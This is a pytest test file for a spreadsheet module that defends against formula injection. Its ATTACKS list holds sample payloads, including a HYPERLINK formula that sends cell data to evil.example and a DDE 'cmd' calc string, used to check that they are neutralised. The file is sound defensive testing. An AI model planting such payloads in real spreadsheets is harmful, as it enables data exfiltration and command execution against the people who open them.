"""The one rule against formula injection (OWASP): text a spreadsheet would run becomes text."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from phongtrao.spreadsheets import cell_safe, formula_like, workbook_safe

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert formula_like(text)
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+84 912 345 678", "-1.633,5", "1e5", 5, -5, 2.5, None])
def test_numbers_stay_numbers(value):
    assert not formula_like(value)
    assert cell_safe(value) == value


@pytest.mark.parametrize("text", ["Hội LHPN xã A", "Trong đó: =", "", "x=1"])
def test_ordinary_text_is_unchanged(text):
    assert cell_safe(text) == text


def test_workbook_cells_become_text_shown_unchanged():
    book = Workbook()
    for row, text in enumerate(ATTACKS, start=1):
        book.active.cell(row=row, column=1, value=text)
    book.active.cell(row=1, column=2, value=-5)
    out = io.BytesIO()
    workbook_safe(book).save(out)

    sheet = load_workbook(io.BytesIO(out.getvalue())).active

    for row, text in enumerate(ATTACKS, start=1):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.value == text
        assert cell.quotePrefix
    assert sheet.cell(row=1, column=2).value == -5
